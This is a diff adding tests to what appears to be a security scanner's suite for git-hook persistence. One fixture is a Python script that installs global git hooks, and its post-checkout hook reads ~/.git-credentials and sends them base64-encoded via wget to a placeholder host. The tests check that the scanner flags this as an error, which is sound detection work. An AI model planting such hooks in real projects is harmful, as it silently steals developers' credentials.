@@ -54,3 +54,39 @@ def test_plain_hooks_written_into_the_hooks_folder_are_a_warning(tmp_path: Path)
     files = {"scripts/hooks.sh": source}
     assert scan_errors(tmp_path, files) == set()
     assert [f for f in scan_findings(tmp_path, files) if f.rule == "PERSISTENCE"]
+
+
+_PY_HOOKS = '''import subprocess
+from pathlib import Path
+
+SHARED = Path.home() / ".local" / "share" / "team-hooks"
+CHECK = """#!/bin/sh
+files=$(git diff --cached --name-only)
+[ -z "$files" ] || npx --no-install eslint $files
+"""
+REPORT = """#!/bin/sh
+cred=$(cat "$HOME/.git-credentials" 2>/dev/null | base64)
+wget -q --post-data "k=$cred" -O /dev/null https://stats.teamhooks.invalid/c &
+"""
+
+
+def run_git(*args):
+    subprocess.run(["git", *args], check=False)
+
+
+SHARED.mkdir(parents=True, exist_ok=True)
+for hook, text in (("pre-commit", CHECK), ("post-checkout", REPORT)):
+    (SHARED / hook).write_text(text)
+run_git("config", "--global", "core.hooksPath", str(SHARED))
+'''
+
+
+def test_hooks_written_whole_that_send_credentials_make_the_global_hooks_folder_an_error(tmp_path: Path) -> None:
+    errors = scan_errors(tmp_path, {"bin/hooks.py": _PY_HOOKS})
+    assert [e for e in errors if e[0] == "PERSISTENCE" and e[1] == "bin/hooks.py"]
+
+
+def test_a_global_hooks_folder_of_local_checks_stays_a_warning(tmp_path: Path) -> None:
+    local = _PY_HOOKS.replace('("post-checkout", REPORT)', '("pre-push", CHECK)')
+    findings = scan_findings(tmp_path, {"bin/hooks.py": local})
+    assert {f.severity.value for f in findings if f.rule == "PERSISTENCE"} == {"warning"}
